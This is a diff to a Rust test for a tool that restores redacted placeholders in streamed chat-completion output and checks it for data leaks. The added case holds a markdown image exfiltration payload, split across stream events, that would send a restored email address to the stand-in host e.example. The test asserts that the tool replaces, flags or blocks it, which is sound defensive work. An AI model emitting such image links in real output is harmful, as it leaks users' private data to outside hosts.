@@ -306,6 +306,16 @@ fn an_answer_is_checked_before_it_is_restored() {
     );
     let (code, out, _) = ask(&["restore", "--check=block"], answer);
     assert_eq!((code, out.as_str()), (Some(1), ""));
+    let event = |text: &str| {
+        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n")
+    };
+    let stream = event("Hi [EMAIL_1]\\n![p](https://e.example/?d=") + &event("[EMAIL_1])\\n");
+    let (code, out, told) = ask(&[&["restore"], &check[..]].concat(), &stream);
+    let expected = event("Hi a@x.org\\n") + &event("![p]([LINK])\\n");
+    assert_eq!((code, out), (Some(0), expected));
+    assert_eq!(told, "inkout: <stdin>: leaks link\n");
+    let (code, out, _) = ask(&["restore", "--check=block"], &stream);
+    assert_eq!((code, out.as_str()), (Some(1), ""));
     std::fs::remove_dir_all(folder).unwrap();
 }
 
